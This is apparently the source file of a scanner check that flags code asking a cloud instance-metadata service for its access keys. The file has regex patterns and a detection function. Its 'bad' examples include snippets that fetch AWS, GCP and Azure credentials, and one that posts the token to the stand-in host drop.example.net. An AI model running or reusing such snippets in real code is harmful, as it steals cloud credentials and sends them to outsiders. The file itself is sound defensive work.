import type { FileCheck } from '../../check.ts';
import { isCode } from '../../inventory/language.ts';

const ADDRESS =
  /\b(?:https?:\/\/)?(?:169\.254\.169\.254|169\.254\.170\.2|metadata\.google\.internal|100\.100\.100\.200|\[fd00:ec2::254\])(?:\/[\w./-]{0,120})?/g;
/** The part of the service that hands out keys. */
const KEYS =
  /iam\/security-credentials|security-credentials|service-accounts\/[\w-]{1,40}\/token|identity\/oauth2\/token|\/v2\/credentials|ram\/security-credentials|user-data/;
const DEFENCE =
  /\b(?:block|deny|denied|disallow|forbid|private|reserved|ssrf|link.?local|blacklist|denylist|restrict|not.?allowed|is_?(?:private|internal|blocked)|unsafe|proxy_?bypass|no_proxy|noproxy|detect|sandbox)/i;
const SDK =
  /\b(?:aws-sdk|botocore|boto3|google-auth|google\.auth|@azure\/identity|azure\.identity|credential_?provider|InstanceMetadata|gcp-metadata)\b|(?<![a-z])imds(?![a-z])|managed_?identity|workload_?identity|token_?provider|(?:credentials?|token)_?cache\b|token_?refresh|\bexpires_?(?:on|in)\b/i;
/** What a library does with its answer stands below: it is looked at, kept for as long as it lasts, and given back. */
const REST_OF_FUNCTION = 1_200;
/** Gives the keys to whoever runs it, which is what a library of a cloud does. */
const OFFERS = /\bclass\s{1,3}\w{0,40}(?:Credentials?|CredentialSource|TokenProvider)\b/;

export const check: FileCheck = {
  id: 'network-metadata-service',
  title: 'Asks the cloud for the keys of this machine',
  severity: 'high',
  kind: 'malice',
  confidence: 'medium',
  since: '0.1.0',
  cwe: [918, 506],
  why: `
    Every machine in a cloud can ask a fixed address for its own access keys. Cloud libraries do; other code that does so is
    after the keys, and with them after everything the machine may touch.`,
  fix: 'Use the library of the cloud, which does this for you, or remove it.',
  blindSpots: 'Addresses written as one number or in parts are not recognised.',
  wants: {
    keywords: ['169.254.169.254', '169.254.170.2', 'metadata.google.internal', '100.100.100.200', 'fd00:ec2::254'],
  },
  examples: {
    bad: [
      {
        'sent.py': `
          def collect():
              url = "«http://169.254.169.254/metadata/identity/oauth2/token»?api-version=2018-02-01"
              body = urlopen(Request(url, headers={"Metadata": "true"})).read()
              requests.post("https://drop.example.net/in", data=body)`,
      },
      { 'keys.py': 'requests.get("«http://169.254.169.254/latest/meta-data/iam/security-credentials/»")\n' },
      {
        'run.sh':
          'curl -s -H "Metadata-Flavor: Google" «http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token»\n',
      },
    ],
    good: [
      { 'guard.ts': "const BLOCKED = ['169.254.169.254', 'metadata.google.internal'];\n" },
      {
        'azure.ts': `
          const ADDRESS = 'http://169.254.169.254/metadata/identity/oauth2/token?';
          export class CredentialCache { isOld(token) { return token.expiresOn < Date.now(); } }`,
      },
      {
        'aws.py': `
          class Credentials(external.Credentials):
              """Signs requests with what http://169.254.169.254/latest/meta-data/iam/security-credentials gives."""`,
      },
      {
        'tokens.js': "const AZURE_IMDS_BASE_URL = 'http://169.254.169.254/metadata/identity/oauth2/token';\n",
      },
      {
        'helpers.py': `
          def azure_response(resource, client_id=None):
              url = "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01"
              url += f"&resource={resource}"
              if client_id:
                  url += f"&client_id={client_id}"
              with urlopen(Request(url, headers={"Metadata": "true"}), timeout=5) as response:
                  status = response.status
                  body = response.read().decode("utf8")
              if status != 200:
                  raise ValueError("There is no answer for this machine, or it has no identity of its own")
              data = json.loads(body)
              for key in ["access_token", "expires_in"]:
                  if not data.get(key):
                      raise ValueError(f"the answer has no {key}")
              return data`,
      },
      { 'zone.py': 'requests.get("http://169.254.169.254/latest/meta-data/placement/region")\n' },
    ],
  },

  *find({ windows, language, context, text }) {
    if (!isCode(language) || context === 'docs' || context === 'test') return;
    if (OFFERS.test(text)) return;
    for (const window of windows) {
      for (const match of window.text.matchAll(ADDRESS)) {
        const nearby = window.text.slice(Math.max(0, match.index - 400), match.index + match[0].length + 300);
        if (DEFENCE.test(nearby) || !KEYS.test(nearby)) continue;
        const at = window.start + match.index;
        if (SDK.test(text.slice(Math.max(0, at - 400), at + REST_OF_FUNCTION))) continue;
        yield {
          at: window.spanOf(match),
          message: 'The code asks the metadata service of the cloud for keys.',
        };
      }
    }
  },
};
